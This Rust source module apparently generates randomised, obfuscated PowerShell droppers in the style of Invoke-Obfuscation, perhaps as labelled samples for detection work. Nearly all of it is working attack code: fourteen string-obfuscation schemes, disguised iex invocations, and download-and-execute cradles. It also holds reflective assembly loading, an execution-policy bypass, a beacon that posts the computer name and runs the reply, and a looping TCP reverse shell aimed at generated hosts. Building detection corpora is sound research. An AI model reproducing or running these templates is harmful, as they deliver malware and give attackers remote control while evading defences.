//! Droppers in PowerShell, in the manners of Invoke-Obfuscation.

use crate::generator::{
    Dice, Truth, base64, codes, deflate, each, keyed, put, quoted, reversed, wide, xored,
};
use std::fmt::Write;

const FILES: &[&str] = &[".exe", ".dll", ".ps1", ".bin", ".png", ""];

/// An expression of which `text` is the value; `before` gets what must stand in front of it.
fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    match dice.below(14) {
        0 => {
            // Numbers between marks of several kinds.
            let mut list = String::new();
            for (at, byte) in text.bytes().enumerate() {
                if at > 0 {
                    list.push_str(dice.pick(&["~", ">", "h", "}", "W"]));
                }
                let _ = write!(list, "{byte}");
            }
            format!(
                "(-JoIn ('{list}' -sPLiT'~'-SplIt '>'-sPliT'h' -sPlIT '}}'-SplIt'W' | FOReaCh-Object {{ ([CHAR][iNt]$_) }}))"
            )
        }
        1 => {
            let list = each(text, "&", |it| format!("{it:x}"));
            format!(
                "(( '{list}'.SplIt('&') | % {{ ([char]([convert]::ToInt16(([string]$_),16))) }} ) -join '')"
            )
        }
        2 => {
            let list = each(text, ",", |it| format!("{it:o}"));
            format!(
                "([string]::Join('', (({list}) | ForEach-Object {{ [char]([Convert]::ToInt16(([String]$_), 8)) }})))"
            )
        }
        3 => {
            // Grave accents where they mean nothing.
            let mut word = String::new();
            for letter in text.chars() {
                if !"0abefnrtuv".contains(letter)
                    && letter.is_ascii_alphanumeric()
                    && dice.chance(40)
                {
                    word.push('`');
                }
                word.push(letter);
            }
            format!("\"{word}\"")
        }
        4 => {
            let mark = "XzQ";
            let littered = dice.littered(text, mark);
            format!("('{littered}'-CReplaCe([ChAR]88+[ChAR]122+[ChAR]81),'')")
        }
        5 => format!(
            "([RegEx]::Matches('{}','.','RightToLeft') | ForEach-Object {{ $_.VALue }} | % -begin {{ $q='' }} -process {{ $q+=$_ }} -end {{ $q }})",
            reversed(text)
        ),
        6 => format!("(-join[regex]::Matches(\"{}\",'.','RightToLeft'))", reversed(text)),
        7 => {
            let key = dice.key();
            format!(
                "(-Join('{}'-split ' '|%{{ [CHAr]($_-BxoR \"0x{key:X}\") }}))",
                codes(xored(text, key), " ")
            )
        }
        8 => {
            let _ = writeln!(
                before,
                "SeT-ItEm  vARiAblE:{name}  ( {} )",
                quoted(&dice.pieces(text), '\'').join(" + ")
            );
            dice.pick(&[
                "( GeT-ItEm vArIaBle:@N@ ).vALUe",
                "(GEt-vaRIABle '@N@' -ValUeOnly)",
                "(gv @N@).Value",
                "(${@N@})",
                "$($ExecutionContext.SessionState.PSVariable.Get('@N@').Value)",
            ])
            .replace("@N@", &name)
        }
        9 => format!(
            "(\"$( SeT-iTem 'VARIaBLE:Ofs' '')\" +[StRinG]([CHar[]]({})) +\"$(Set-VariAble 'oFs' ' ')\")",
            codes(text.bytes(), " , ")
        ),
        10 => {
            let key = dice.name();
            let _ = writeln!(
                before,
                "$b = [System.Convert]::FromBase64String('{}')\n$k = '{key}'\n${name} = ''\n$b | % -Begin {{ $i = 0 }} -Process {{ ${name} += [char]($_ -bxor [int]$k[$i++ % $k.Length]) }}",
                base64(&keyed(text, &key))
            );
            format!("${name}")
        }
        11 => {
            let pieces = dice.pieces(text);
            format!("[String]::Concat({})", quoted(&pieces, '\'').join(", "))
        }
        12 => {
            let _ = writeln!(before, "${{env:{name}}} = '{text}'");
            if dice.chance(50) {
                format!("$ExecutionContext.InvokeCommand.ExpandString('$env:{name}')")
            } else {
                format!("([Environment]::GetEnvironmentVariable('{name}'))")
            }
        }
        _ => {
            let packed = base64(&deflate(text.as_bytes()));
            format!(
                "( nEW-oBJECt io.CoMPRESSIOn.deFLATEsTREAM( [sYstEm.io.mEMORySTrEAm] [sYSTem.cONVErT]::FROmBASe64StrING('{packed}' ), [Io.COMprESsION.coMPreSSIOnMode]::DEcOMpress) | FoREACH{{ nEW-oBJECt iO.STreaMreADer($_ ,[systeM.TeXt.encODiNg]::asCii)}} | FoReach{{ $_.ReAdTOEnd( )}} )"
            )
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let line = delivery(dice, truth, &mut before);
    let text = format!("{before}{line}");
    let invoke = dice.pick(&[
        "| .( $PSHOme[4]+$pSHOMe[30]+'x')",
        "|&( $Env:coMsPEc[4,24,25]-jOIN'')",
        "| & ((vaRIaBLe '*mdR*').NAmE[3,11,2]-jOIn'')",
        "| .( ([StrinG]$VERboSEPREfEReNCe)[1,3]+'X'-JoIN'')",
        "| IEX",
        "|&(gal ie?)",
    ]);
    match dice.below(8) {
        0 => format!(
            "( '{}'-SpLiT ',' |%{{ ([char][int]$_)}})-jOIn '' {invoke}\n",
            codes(text.bytes(), ",")
        ),
        1 => format!(
            "( nEw-obJEct  SYstem.IO.COMPReSsIoN.DEflaTestreaM([Io.MEMOryStREam] [coNVErt]::FRomBASe64STRINg('{}' ) , [sysTEm.IO.ComPResSIoN.cOMprEssIonmoDE]::DECOMpReSS ) |FoREaCh-oBjEcT{{ nEw-obJEct  iO.strEaMREAdEr($_ , [SysteM.tExT.eNCodiNG]::aSCIi)}} ).REAdtOENd( ) {invoke}\n",
            base64(&deflate(text.as_bytes()))
        ),
        2 => format!(
            "$c = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{}'))\n$ExecutionContext.InvokeCommand.InvokeScript($c)\n",
            base64(&wide(&text))
        ),
        3 => format!(
            "cmd.exe /c \"set {0}=x&& powershell -WindowStyle hidden -NoLogo -NonInteractive -EncodedCommand {1}\"\n# New-Object\n",
            dice.name(),
            base64(&wide(&text))
        ),
        _ => text,
    }
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = dice.name();
    let var = dice.name();
    let one = |dice: &mut Dice, truth: &mut Truth, before: &mut String, template: &str| {
        let url = truth.url(dice, FILES);
        let hidden = hide(dice, &url, before);
        put(template, &[("U", &hidden), ("F", &file), ("V", &var)])
    };
    match dice.below(10) {
        0 => one(
            dice,
            truth,
            before,
            "&(\"{1}{0}\"-f'EX','I') (&(\"{2}{1}{0}\" -f 'ct','-Obje','New') (\"{0}{2}{1}\" -f 'Ne','ient','t.WebCl')).(\"{1}{2}{0}\"-f'ring','Downlo','adSt').Invoke(@U@)\n",
        ),
        1 => one(
            dice,
            truth,
            before,
            "$ExecutionContext.InvokeCommand.InvokeScript((New-Object System.Net.WebClient).DownloadString(@U@))\n",
        ),
        2 => {
            let urls: Vec<String> =
                (0..3 + dice.below(3)).map(|_| truth.url(dice, FILES)).collect();
            let hidden = hide(dice, &urls.join("@"), before);
            put(
                "$@V@='@F@';$w=.('new-object') NEt.wEbCLIEnt;$u=(@U@).\"SP`lIt\"('@');$n='721';$p=$env:userprofile+'\\'+$n+('.'+'exe');foreach($x in $u){try{$w.\"DOWNlO`AdF`iLe\"($x, $p);If ((.('Get-'+'Item') $p).\"LE`Ngth\" -ge 0) {[Diagnostics.Process]::\"S`TaRT\"($p)}}catch{}}\n",
                &[("U", &hidden), ("F", &file), ("V", &var)],
            )
        }
        3 => one(
            dice,
            truth,
            before,
            "[System.Net.WebClient]::new().DownloadString(@U@) | & (gal ?e[x])\n",
        ),
        4 => one(
            dice,
            truth,
            before,
            "$@V@ = \"iwr -useb \" + (@U@) + \" -outf $env:temp\\@F@.exe; saps $env:temp\\@F@.exe\"\nInvoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList \"powershell -w 1 -c $@V@\" | Out-Null\n",
        ),
        5 => one(
            dice,
            truth,
            before,
            "$a = [Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData(@U@))\n$a.EntryPoint.Invoke($null, (, [string[]]@('@F@')))\n",
        ),
        6 => one(
            dice,
            truth,
            before,
            "${@V@} = [type]('Net.Web'+'Request')\n$q = ${@V@}::Create(@U@)\n$q.Method = 'POST'\n$q.Proxy = [Net.WebRequest]::GetSystemWebProxy()\n$q.Proxy.Credentials = [Net.CredentialCache]::DefaultCredentials\n$d = [Text.Encoding]::UTF8.GetBytes(\"id=$env:COMPUTERNAME\")\n$q.ContentLength = $d.Length\n$s = $q.GetRequestStream(); $s.Write($d, 0, $d.Length); $s.Close()\niex ([IO.StreamReader]::new($q.GetResponse().GetResponseStream())).ReadToEnd()\n",
        ),
        7 => {
            let (host, port) = truth.endpoint(dice);
            let hidden = hide(dice, &host, before);
            put(
                "$@V@ = @U@\ndo {\n  try {\n    $t = New-Object Net.Sockets.TcpClient\n    $t.ConnectAsync($@V@, @P@).Wait()\n    $n = $t.GetStream()\n    $r = New-Object IO.StreamReader($n); $w = New-Object IO.StreamWriter($n)\n    $w.AutoFlush = $true\n    while ($t.Connected -and ($l = $r.ReadLine())) { $w.WriteLine((iex $l | Out-String)) }\n  } catch { Start-Sleep -Seconds 5 }\n} while ($true)\n",
                &[("U", &hidden), ("P", &port.to_string()), ("V", &var)],
            )
        }
        8 => one(
            dice,
            truth,
            before,
            "${W`C}=&('New-Obj'+'ect') ('Net'+'.'+'WebClient')\n${w`c}.Headers['User-Agent']='Mozilla/5.0 (Windows NT 10.0; Win64; x64)'\n[IO.File]::WriteAllText(\"$env:APPDATA\\@F@.ps1\", ${wC}.DownloadString(@U@))\n.(\"{1}{0}\" -f'ershell','pow') -ep bypass -file \"$env:APPDATA\\@F@.ps1\"\n",
        ),
        _ => one(
            dice,
            truth,
            before,
            "filter @V@ { $_ | Out-Null; (New-Object Net.WebClient).DownloadFile($_, (Join-Path ([IO.Path]::GetTempPath()) '@F@.exe')) }\n@U@ | @V@\n[void][Diagnostics.Process]::Start((Join-Path ([IO.Path]::GetTempPath()) '@F@.exe'))\n",
        ),
    }
}
